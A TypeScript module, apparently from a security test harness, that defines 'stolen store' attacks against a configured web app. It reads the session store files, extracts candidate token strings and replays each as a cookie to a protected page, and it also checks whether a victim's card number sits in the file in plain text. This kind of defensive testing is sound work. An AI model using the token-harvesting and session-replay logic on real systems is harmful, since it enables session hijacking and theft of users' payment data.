/** Somebody has a copy of the file that the sessions are in: a backup, a mistaken download. Does it open anything? */
import { readFile } from 'node:fs/promises'
import { defineAttack, type Outcome, Undecided } from './attack.ts'
import type { Pair } from './lib/jar.ts'
import { at, attackerGets, settle, type Victim } from './lib/people.ts'
import { cookieNames, visitAsStranger } from './lib/plant.ts'
import type { Target } from './target.ts'

const MOST_TRIES = 3000

export const stolenStore = defineAttack('F5 stolen store', ['stores'], async (target) => {
  const theft = await steal(target)
  const opened = await openWith(target, theft)
  if (opened.got || !theft.copy.includes(theft.victim.card)) return opened
  return { got: true, evidence: 'the card itself can be read in the file' }
})

/** Of the two the worse one alone: the thief comes in. */
export const stolenToken = defineAttack('F5 stolen store, a token in it', ['stores'], async (target) =>
  openWith(target, await steal(target)),
)

/** And the other: the thief reads what visitors entered. */
export const readableStore = defineAttack('F5 stolen store, data in it', ['stores'], async (target) => {
  const { copy, victim } = await steal(target)
  if (copy.includes(victim.card)) return { got: true, evidence: `${victim.user.name}'s card can be read in it` }
  return { got: false, evidence: `${victim.user.name}'s card is nowhere in its ${copy.length} bytes` }
})

type Theft = { victim: Victim; copy: Buffer }

async function steal(target: Target): Promise<Theft> {
  const victim = await settle(target)
  const copies = await Promise.all(target.stores!.map((file) => readFile(file).catch(() => Buffer.alloc(0))))
  const copy = Buffer.concat(copies)
  if (copy.length === 0) throw new Undecided('the store is empty, or is not there')
  return { victim, copy }
}

async function openWith(target: Target, { victim, copy }: Theft): Promise<Outcome> {
  const seen = victim.browser.jar.pairs(at(target, '/'))
  const strangers = (await visitAsStranger(target)).jar.pairs(at(target, '/'))
  const names = cookieNames(target, [...seen, ...strangers])
  const strings = candidates(copy)
  for (const name of names) {
    for (const value of strings) {
      const cookie: Pair = [name, value]
      const { body } = await attackerGets(target, at(target, target.secret.path), [cookie])
      if (body.includes(victim.card)) {
        return { got: true, evidence: `a string of the file, sent as ${name}, shows ${victim.user.name}'s card` }
      }
    }
  }
  return { got: false, evidence: `${strings.length} strings in ${copy.length} bytes, and none opens anything` }
}

/** Every string that could be a token, as it stands, and every hex string also as the bytes that it may stand for. */
function candidates(copy: Buffer): string[] {
  const strings = copy.toString('latin1').match(/[\w.~+/=%-]{8,512}/g) ?? []
  const rewritten = strings.filter((text) => /^([\da-f]{2}){16,}$/i.test(text)).map((text) => Buffer.from(text, 'hex'))
  return [...new Set([...strings, ...rewritten.map((bytes) => bytes.toString('base64url'))])].slice(0, MOST_TRIES)
}
